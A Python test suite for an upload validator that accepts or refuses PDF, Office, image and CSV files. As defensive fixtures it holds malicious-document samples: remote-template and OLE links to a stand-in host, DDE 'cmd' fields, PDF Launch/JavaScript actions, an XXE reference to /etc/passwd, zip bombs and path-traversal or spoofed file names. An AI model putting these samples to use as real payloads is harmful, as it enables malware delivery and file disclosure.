"""Which uploads are taken and why the others are not."""

import io
import random
import struct
import unicodedata
import zipfile
import zlib
from contextlib import suppress
from itertools import accumulate
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sop.errors.files import (
    ArchiveFile,
    BrokenFile,
    EmbeddedFile,
    EmptyFile,
    FileTooLarge,
    HeicPicture,
    MacroDocument,
    MisnamedFile,
    OldOfficeFile,
    OtherFormat,
    ProtectedFile,
    ProtectedPdf,
    RunningPdf,
    SuspiciousArchive,
    UnknownFileKind,
)
from sop.errors.refusal import Refusal
from storage.files.file_kinds import (
    LIMIT_BYTES,
    LONGEST_NAME,
    FileKind,
    recognise,
    recognise_table,
    safe_name,
    with_ending,
)
from tests.handlers.sheets.sheet_samples import ods

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nstartxref\n9\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(17) + b"\0\0\0\0IEND\xaeB`\x82"
THUMBNAIL = b"Exif\0\0" + b"\xff\xd8\xff\xda" + bytes(20) + b"\xff\xd9" + bytes(20)
PHOTO = b"\xff\xd8\xff\xe1\0\x36" + THUMBNAIL + b"\xff\xff\xda\0\x02" + bytes(90) + b"\xff\xd9"
"""As phones make it, with a small picture in its head."""
JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(20) + b"\xff\xd9"
PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(200)
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SAFE_PARTS = {
    "_rels/.rels": b"<Relationships/>",
    "word/document.xml": b"<w:document>Uji konsekuensi</w:document>" * 20,
}


def content_types(main: str = f"{WORD}.document.main+xml", more: str = "", before: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{before}'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
    ).encode()


def packed(parts: dict[str, bytes], types: bytes | None = None, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An Office document of these parts and the usual ones."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", compression, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", types or content_types())
        for name, content in {**SAFE_PARTS, **parts}.items():
            archive.writestr(name, content)
    return target.getvalue()


def workbook() -> bytes:
    target = io.BytesIO()
    openpyxl.Workbook().save(target)
    return target.getvalue()


DOCX = packed({})
XLSX = workbook()
HEIC = b"\0\0\0\x18ftypheic" + bytes(40)
PROTECTED = OLD_OFFICE + "EncryptedPackage".encode("utf-16-le")


def refusal_of(data: bytes, name: str) -> Refusal:
    with pytest.raises(Refusal) as caught:
        recognise(data, name)
    return caught.value


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (PDF, "SK.pdf", FileKind.PDF),
        (PDF, "SK.PDF", FileKind.PDF),
        (PDF + b"\r\nditerima lewat surel" * 20, "SK.pdf", FileKind.PDF),
        (DOCX, "Lembar uji.docx", FileKind.DOCX),
        (XLSX, "Daftar.xlsx", FileKind.XLSX),
        (JPEG, "foto.jpg", FileKind.JPEG),
        (PHOTO, "foto.jpg", FileKind.JPEG),
        (JPEG + b"a film of the phone", "foto.jpeg", FileKind.JPEG),
        (PNG, "layar.png", FileKind.PNG),
        (DOCX + bytes(10), "Lembar uji.docx", FileKind.DOCX),
        (b"\xef\xbb\xbf" + PDF, "SK.pdf", FileKind.PDF),
        (b"\r\n" + PDF, "SK.pdf", FileKind.PDF),
        (b" " + PDF, "SK.pdf", FileKind.PDF),
        (b"\t" + PDF, "SK.pdf", FileKind.PDF),
        (b"\0" + PDF, "SK.pdf", FileKind.PDF),
        (b"\x1b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n" + PDF, "SK.pdf", FileKind.PDF),
        (PDF + bytes(5000), "SK.pdf", FileKind.PDF),
        (PDF + b" \t\r\n" * 2000, "SK.pdf", FileKind.PDF),
        (JPEG, "foto.jfif", FileKind.JPEG),
        (PDF, "SK", FileKind.PDF),
        (PDF, "SK 12.2026", FileKind.PDF),
        (PDF, "SK.12.XI", FileKind.PDF),
        (PDF, "Andi, S.Kom", FileKind.PDF),
        (PDF, "Budi, S.H", FileKind.PDF),
        (PDF, "Rina, A.Md", FileKind.PDF),
        (PDF, "Dra. Ani, M.Si", FileKind.PDF),
        (PDF, "draf rev1.final", FileKind.PDF),
        (PNG, "layar", FileKind.PNG),
        (packed({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": XLSX}), "grafik.docx", FileKind.DOCX),
    ],
)
def test_what_an_office_needs_is_taken(data: bytes, name: str, kind: FileKind) -> None:
    assert recognise(data, name) is kind


def test_a_document_whose_main_type_is_the_default_for_xml_is_taken() -> None:
    types = content_types().replace(b'Override PartName="/word/document.xml"', b'Default Extension="xml"')

    assert recognise(packed({}, types), "a.docx") is FileKind.DOCX


def test_content_types_in_utf16_are_read() -> None:
    types = content_types().decode().replace("UTF-8", "UTF-16").encode("utf-16")

    assert recognise(packed({}, types), "a.docx") is FileKind.DOCX


def test_an_empty_file_is_refused() -> None:
    assert refusal_of(b"", "a.pdf") == EmptyFile("a.pdf")


def test_a_file_of_exactly_the_limit_is_taken_and_one_byte_more_is_not() -> None:
    data = b"%PDF-1.7\n" + bytes(LIMIT_BYTES - 15) + b"%%EOF\n"

    assert recognise(data, "a.pdf") is FileKind.PDF
    assert refusal_of(data + b"\n", "a.pdf") == FileTooLarge(size=LIMIT_BYTES + 1, limit=LIMIT_BYTES)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (PROGRAM, "SK.pdf"),
        (PROGRAM, "SK.docx"),
        (PROGRAM, "SK.pdf.exe"),
        (PROGRAM + PDF, "SK.pdf"),
        (b" " * 2000 + PDF, "SK.pdf"),
        (b"Halo", "catatan.txt"),
        (b"a;b\n1;2\n", "tabel.csv"),
    ],
)
def test_other_kinds_and_renamed_programs_are_refused(data: bytes, name: str) -> None:
    assert refusal_of(data, name) == UnknownFileKind(name)


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (OLD_OFFICE, "lama.doc", OldOfficeFile),
        (PROTECTED, "berkata sandi.xlsx", ProtectedFile),
        (HEIC, "IMG_0001.HEIC", HeicPicture),
    ],
)
def test_what_can_be_told_from_another_kind_is_named(data: bytes, name: str, kind: type[Refusal]) -> None:
    assert isinstance(refusal_of(data, name), kind)


def test_a_name_without_an_ending_gets_the_one_of_its_kind() -> None:
    assert with_ending("SK 12.2026", FileKind.PDF) == "SK 12.2026.pdf"
    assert with_ending("Andi, S.Kom", FileKind.PDF) == "Andi, S.Kom.pdf"
    assert with_ending("SK.pdf", FileKind.PDF) == "SK.pdf"
    assert len(with_ending("x" * 100, FileKind.DOCX)) <= LONGEST_NAME


@pytest.mark.parametrize(
    "inside",
    [packed({}), packed({"xl/vbaProject.bin": b"x"}), b"MZ\x90", XLSX[:-30]],
    ids=["a document", "a macro", "a program", "cut short"],
)
def test_what_a_chart_shows_has_to_be_a_workbook_without_anything_that_runs(inside: bytes) -> None:
    with pytest.raises((MacroDocument, EmbeddedFile, BrokenFile)):
        recognise(packed({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": inside}), "a.docx")


def test_a_plain_archive_is_not_a_document() -> None:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("setup.exe", PROGRAM)

    assert refusal_of(target.getvalue(), "SK.docx") == ArchiveFile("SK.docx")
    assert refusal_of(b"Rar!\x1a\x07\x01\0", "SK.rar") == ArchiveFile("SK.rar")


def open_document(kind: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr("content.xml", "<office/>")
    return target.getvalue()


@pytest.mark.parametrize(
    ("data", "format_", "instead", "of_a_table"),
    [
        (open_document("text"), "ODT", "DOCX", "XLSX"),
        (b"{\\rtf1\\ansi Draf}", "RTF", "DOCX", "XLSX"),
        (b"<!DOCTYPE html>\n<html><table></table></html>", "HTML", "PDF", "XLSX"),
        (
            b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas"/>',
            "XML",
            "XLSX",
            "XLSX",
        ),
        (b"GIF89a" + bytes(30), "GIF", "JPEG", None),
        (b"II*\0" + bytes(30), "TIFF", "JPEG", None),
        (b"RIFF\x10\0\0\0WEBPVP8 ", "WebP", "JPEG", None),
    ],
)
def test_what_can_be_saved_as_another_kind_is_named_with_that_kind(
    data: bytes, format_: str, instead: str, of_a_table: str | None
) -> None:
    with pytest.raises(Refusal) as of_table:
        recognise_table(data, "lembar.xls")

    assert refusal_of(data, "berkas.doc") == OtherFormat("berkas.doc", format_, instead)
    expected = OtherFormat("lembar.xls", format_, of_a_table) if of_a_table else UnknownFileKind("lembar.xls")
    assert of_table.value == expected


def test_a_sheet_of_open_document_is_no_document() -> None:
    assert refusal_of(ods((("OPD",),)), "daftar.ods") == OtherFormat("daftar.ods", "ODS", "XLSX")


def test_a_pdf_that_opens_with_a_password_alone_is_refused_and_one_that_may_not_be_printed_is_taken() -> None:
    """Both made by LibreOffice."""
    samples = Path(__file__).parent / "data"

    assert refusal_of((samples / "password.pdf").read_bytes(), "SK.pdf") == ProtectedPdf("SK.pdf")
    assert recognise((samples / "no-printing.pdf").read_bytes(), "SK.pdf") is FileKind.PDF


@pytest.mark.parametrize("main", [f"{WORD}.template.main+xml", f"{EXCEL}.template.main+xml", "text/plain"])
def test_templates_and_other_packages_are_refused(main: str) -> None:
    assert refusal_of(packed({}, content_types(main)), "a.docx") == UnknownFileKind("a.docx")


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (PDF, "SK.docx", FileKind.PDF),
        (PDF, "SK.pdf.exe", FileKind.PDF),
        (PDF, "SK\u202efdp.exe", FileKind.PDF),
        (DOCX, "Daftar.xlsx", FileKind.DOCX),
        (XLSX, "Daftar.docx", FileKind.XLSX),
        (PNG, "foto.jpg", FileKind.PNG),
    ],
)
def test_a_name_that_says_another_kind_is_refused(data: bytes, name: str, kind: FileKind) -> None:
    assert refusal_of(data, name) == MisnamedFile(safe_name(name), kind)


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (PDF[:-10], "a.pdf"),
        (PDF[:-10] + bytes(5000), "a.pdf"),
        (JPEG[:-2], "a.jpg"),
        (PHOTO[:-2], "a.jpg"),
        (PHOTO[: PHOTO.index(b"\xff\xd9") + 2], "a.jpg"),
        (PNG[:-4], "a.png"),
        (DOCX[: len(DOCX) // 2], "a.docx"),
        (DOCX[:-30], "a.docx"),
        (XLSX[:-1000], "a.xlsx"),
    ],
)
def test_a_file_cut_short_is_refused(data: bytes, name: str) -> None:
    assert refusal_of(data, name) == BrokenFile(name)


def test_a_document_whose_content_does_not_match_its_checksum_is_refused() -> None:
    data = packed({"word/media/a.bin": b"isi yang rusak"}, compression=zipfile.ZIP_STORED)

    assert refusal_of(data.replace(b"isi yang rusak", b"isi yang busuk"), "a.docx") == BrokenFile("a.docx")


RELATION = (
    b'<Relationships xmlns="x"><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s"'
    b' TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "parts",
    [
        {"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"https://evil.id/x.dotm")},
        {"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"http://evil.id/x.html!")},
        {"word/header1.xml": b"<w:hdr><w:instrText> DDEAUTO cmd</w:instrText></w:hdr>"},
        {"word/footer1.xml": b'<w:ftr><w:fldSimple w:instr=" DDE cmd "/></w:ftr>'},
        {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
    ],
)
def test_what_fetches_or_starts_something_is_refused(parts: dict[str, bytes]) -> None:
    assert refusal_of(packed(parts), "a.docx") == MacroDocument("a.docx")


def test_a_template_of_the_office_and_a_link_to_a_page_are_harmless() -> None:
    template = {"word/_rels/settings.xml.rels": RELATION % (b"attachedTemplate", b"file:///C:/Dinas/Surat.dotx")}
    page = {"word/_rels/document.xml.rels": RELATION % (b"hyperlink", b"https://jdih.go.id")}

    assert recognise(packed({**template, **page}), "a.docx") is FileKind.DOCX


@pytest.mark.parametrize("action", [b"/S /JavaScript /JS (app.alert(1))", b"/S/Launch/F(cmd.exe)"])
def test_a_pdf_that_runs_something_is_refused(action: bytes) -> None:
    data = PDF.replace(b"%%EOF", b"9 0 obj <<" + action + b">> endobj\n%%EOF")

    assert refusal_of(data, "a.pdf") == RunningPdf("a.pdf")


@pytest.mark.parametrize(
    ("action", "runs"),
    [
        (b"/S/JavaScript/JS(app.alert)", True),
        (b"/S/Launch/F(cmd.exe)", True),
        (b"/S/J#61vaScript/JS(app.alert)", True),
        (b"/S/GoTo/D[3 0 R/Fit]", False),
    ],
)
def test_a_program_in_a_packed_part_of_a_pdf_is_found(action: bytes, runs: bool) -> None:
    data = packed_pdf(action)

    assert b"/S/" not in data
    if runs:
        assert refusal_of(data, "a.pdf") == RunningPdf("a.pdf")
    else:
        assert recognise(data, "a.pdf") is FileKind.PDF


def packed_pdf(action: bytes) -> bytes:
    """As programs write PDF 1.5 (7.5.7, 7.5.8): all objects in one that is compressed."""
    catalogue = (b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    objects = (*catalogue, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", b"<<" + action + b">>")
    starts = accumulate((len(each) + 1 for each in objects), initial=0)
    places = b"".join(b"%d %d " % pair for pair in zip(range(1, 5), starts, strict=False))
    stream = zlib.compress(places + b" ".join(objects))
    data = b"%PDF-1.5\n"
    stated = len(stream), len(places)
    whole = data + b"5 0 obj<</Type/ObjStm/N 4/Filter/FlateDecode/Length %d/First %d>>stream\n" % stated + stream
    whole += b"\nendstream endobj\n"
    rows = [(0, 0, 0), *((2, 5, place) for place in range(4)), (1, len(data), 0), (1, len(whole), 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    last = b"6 0 obj<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table) + table
    return whole + last + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(whole)


def test_content_types_that_are_no_xml_are_refused() -> None:
    assert refusal_of(packed({}, b"<Types"), "a.docx") == BrokenFile("a.docx")


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "xl/macrosheets/sheet1.xml",
    ],
)
def test_parts_that_can_run_are_refused(part: str) -> None:
    assert refusal_of(packed({part: b"x"}), "a.docx") == MacroDocument("a.docx")


@pytest.mark.parametrize("part", ["word/embeddings/oleObject1.bin", "embeddings/a.bin", "xl/embeddings/Surat.docx"])
def test_a_file_within_is_refused_for_what_it_is(part: str) -> None:
    assert refusal_of(packed({part: b"x"}), "a.docx") == EmbeddedFile("a.docx")


def test_a_file_within_under_another_name_is_refused_for_what_it_is() -> None:
    content_type = "application/vnd.openxmlformats-officedocument.oleObject"
    data = packed({"word/a.bin": b"x"}, content_types(more=f'<Default Extension="BIN" ContentType="{content_type}"/>'))

    assert refusal_of(data, "a.docx") == EmbeddedFile("a.docx")


@pytest.mark.parametrize(
    "content_type",
    [
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-office.activeX+xml",
        "application/vnd.ms-excel.macrosheet+xml",
    ],
)
def test_macros_under_another_name_are_refused(content_type: str) -> None:
    by_name = f'<Override PartName="/word/gambar.bin" ContentType="{content_type}"/>'
    by_extension = f'<Default Extension="BIN" ContentType="{content_type}"/>'

    for more in (by_name, by_extension):
        data = packed({"word/gambar.bin": b"x"}, content_types(more=more))
        assert refusal_of(data, "a.docx") == MacroDocument("a.docx")


@pytest.mark.parametrize(
    "main",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
    ],
)
@pytest.mark.parametrize("name", ["a.docm", "a.docx"])
def test_a_macro_document_is_refused_under_any_name(main: str, name: str) -> None:
    assert refusal_of(packed({}, content_types(main)), name) == MacroDocument(name)


def test_a_default_type_that_no_part_uses_does_no_harm() -> None:
    more = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'

    assert recognise(packed({}, content_types(more=more)), "a.docx") is FileKind.DOCX


def test_a_package_that_is_a_document_and_a_table_is_refused() -> None:
    more = f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}.sheet.main+xml"/>'
    data = packed({"xl/workbook.xml": b"<workbook/>"}, content_types(more=more))

    assert refusal_of(data, "a.docx") == SuspiciousArchive("a.docx")


@pytest.mark.parametrize("before", ["<!DOCTYPE Types []>", '<!DOCTYPE Types SYSTEM "file:///etc/passwd">'])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_declaration_is_refused(before: str, encoding: str) -> None:
    types = content_types(before=before).decode().replace("UTF-8", encoding).encode(encoding)

    assert refusal_of(packed({}, types), "a.docx") == SuspiciousArchive("a.docx")


def test_a_document_type_declaration_is_seen_in_every_part_wherever_it_stands() -> None:
    for at in range((1 << 16) - 12, (1 << 16) + 4):
        part = b" " * at + b"<!DOCTYPE x []><x/>" + random.Random(1).randbytes(2000)  # noqa: S311  # filler
        assert refusal_of(packed({"word/styles.xml": part}), "a.docx") == SuspiciousArchive("a.docx")


def test_an_archive_of_too_many_parts_is_refused() -> None:
    assert recognise(packed({f"word/{n}.xml": b"" for n in range(4_990)}), "a.docx") is FileKind.DOCX

    data = packed({f"word/{n}.xml": b"" for n in range(5_000)})
    assert refusal_of(data, "a.docx") == SuspiciousArchive("a.docx")


def test_a_bomb_is_refused_by_its_ratio() -> None:
    data = packed({"word/media/a.emf": bytes(30_000_000)})

    assert refusal_of(data, "a.docx") == SuspiciousArchive("a.docx")


def test_a_bomb_in_many_parts_is_refused() -> None:
    data = packed({f"word/media/{n}.emf": bytes(1_000_000) for n in range(30)})

    assert refusal_of(data, "a.docx") == SuspiciousArchive("a.docx")


def test_a_bomb_is_refused_by_its_size() -> None:
    filler = random.Random(1).randbytes(2_000_000)  # noqa: S311  # keeps the ratio low
    data = packed({"word/media/a.png": filler, "word/media/b.emf": bytes(201 * 1024 * 1024)})

    assert len(data) * 150 > 203 * 1024 * 1024
    assert refusal_of(data, "a.docx") == SuspiciousArchive("a.docx")


def test_content_types_of_many_megabytes_are_refused() -> None:
    data = packed({}, content_types(more=" " * 2_000_000))

    assert refusal_of(data, "a.docx") == SuspiciousArchive("a.docx")


@pytest.mark.parametrize("stated", [10, 20_000])
def test_a_header_that_states_another_size_is_not_believed(stated: int) -> None:
    content = b"0123456789" + bytes(9_990)
    data = packed({"word/media/a.emf": content})
    # Of a reader that stops at the stated size, the checksum would come out right.
    true = struct.pack("<I", zlib.crc32(content)), struct.pack("<I", len(content))
    false = struct.pack("<I", zlib.crc32(content[:10])) if stated == 10 else true[0], struct.pack("<I", stated)
    assert data.count(true[0]) == 2

    forged = data.replace(true[0], false[0]).replace(true[1], false[1])

    assert isinstance(refusal_of(forged, "a.docx"), SuspiciousArchive | BrokenFile)


def test_an_archive_with_a_password_is_refused() -> None:
    data = bytearray(DOCX)
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1

    assert refusal_of(bytes(data), "a.docx") == SuspiciousArchive("a.docx")


@pytest.mark.parametrize("compression", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_packing_that_office_does_not_use_is_refused(compression: int) -> None:
    assert refusal_of(packed({}, compression=compression), "a.docx") == SuspiciousArchive("a.docx")


@pytest.mark.parametrize(
    "part", ["../a.xml", "word/../../a.xml", "/word/a.xml", "word\\a.xml", "word/./a.xml", "WORD/Document.xml"]
)
def test_names_of_parts_that_mislead_are_refused(part: str) -> None:
    assert refusal_of(packed({part: b"x"}), "a.docx") == SuspiciousArchive("a.docx")


@given(st.lists(st.tuples(st.integers(0, len(DOCX) - 1), st.integers(0, 255)), min_size=1, max_size=8), st.booleans())
@settings(max_examples=300, deadline=None)
def test_a_damaged_document_is_taken_or_refused_but_never_stumbled_over(
    changes: list[tuple[int, int]], cut: bool
) -> None:
    data = bytearray(DOCX)
    for at, value in changes:
        data[at] = value
    if cut:
        del data[changes[0][0] :]

    with suppress(Refusal):
        assert recognise(bytes(data), "a.docx") is FileKind.DOCX


@pytest.mark.parametrize(
    "data",
    ["No;Judul\n1;Rencana\n".encode("utf-8-sig"), "No,Judul\r\n1,Café\r\n".encode("cp1252"), b"satu kolom\n"],
)
def test_a_table_may_be_a_csv(data: bytes) -> None:
    assert recognise_table(data, "tabel.CSV") is FileKind.CSV


def test_a_table_may_be_a_workbook() -> None:
    assert recognise_table(XLSX, "tabel.xlsx") is FileKind.XLSX
    assert recognise_table(ods((("OPD",),)), "tabel.ods") is FileKind.ODS


@pytest.mark.parametrize(
    ("data", "name", "refusal"),
    [
        (b"", "a.csv", EmptyFile("a.csv")),
        (b"a" * (LIMIT_BYTES + 1), "a.csv", FileTooLarge(LIMIT_BYTES + 1, LIMIT_BYTES)),
        (PROGRAM, "a.csv", UnknownFileKind("a.csv")),
        (b"\xff\xfea\x00\x01\x00", "a.csv", UnknownFileKind("a.csv")),
        (b"\xff\xfea\x00;", "a.csv", UnknownFileKind("a.csv")),
        (b"a;b\n", "a.doc", UnknownFileKind("a.doc")),
        (b"a;b\n", "a.xlsx", UnknownFileKind("a.xlsx")),
        (XLSX, "a.csv", MisnamedFile("a.csv", FileKind.XLSX)),
        (PDF, "a.csv", MisnamedFile("a.csv", FileKind.PDF)),
        (PDF, "a.pdf", UnknownFileKind("a.pdf")),
        (DOCX, "a.docx", UnknownFileKind("a.docx")),
        (ods((), parts={"Basic/Standard/Modul.xml": "<a/>"}), "a.ods", MacroDocument("a.ods")),
        (ods((), parts={"META-INF/manifest.xml": "<encryption-data/>"}), "a.ods", ProtectedFile("a.ods")),
        (ods((), parts={"a.xml": "<!DOCTYPE a>"}), "a.ods", SuspiciousArchive("a.ods")),
        (ods(())[:-40], "a.ods", BrokenFile("a.ods")),
    ],
)
def test_what_is_no_table_is_refused(data: bytes, name: str, refusal: Refusal) -> None:
    with pytest.raises(Refusal) as caught:
        recognise_table(data, name)
    assert caught.value == refusal


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("SK Wali Kota.pdf", "SK Wali Kota.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\Bidang\\SK.pdf", "SK.pdf"),
        ("SK\u202efdp.exe", "SKfdp.exe"),
        ("SK\n\tfinal\u00a0 2.pdf", "SK final 2.pdf"),
        ("SK\x00\x1b[31m.pdf", "SK[31m.pdf"),
        ("cafe\u0301.pdf", "café.pdf"),
        ('a;b:"c"?.pdf', "a_b__c__.pdf"),
        ("  .pdf. ", "pdf"),
        ("", "berkas"),
        ("...", "berkas"),
        ("a/", "berkas"),
        ("\ud800.pdf", "pdf"),
        ("x" * 200 + ".xlsx", "x" * 95 + ".xlsx"),
        ("x." + "y" * 200, "x." + "y" * 98),
    ],
)
def test_names_are_made_safe(name: str, safe: str) -> None:
    assert safe_name(name) == safe


@given(st.text(st.characters(codec=None, exclude_categories=())))
def test_a_safe_name_is_short_shown_as_it_is_and_stays_as_it_is(name: str) -> None:
    safe = safe_name(name)

    assert 1 <= len(safe) <= 100
    assert not set(safe) & set('/\\<>:;"|?*')
    assert all(unicodedata.category(character)[0] != "C" for character in safe)
    assert safe.encode()
    assert unicodedata.is_normalized("NFC", safe)
    assert safe_name(safe) == safe
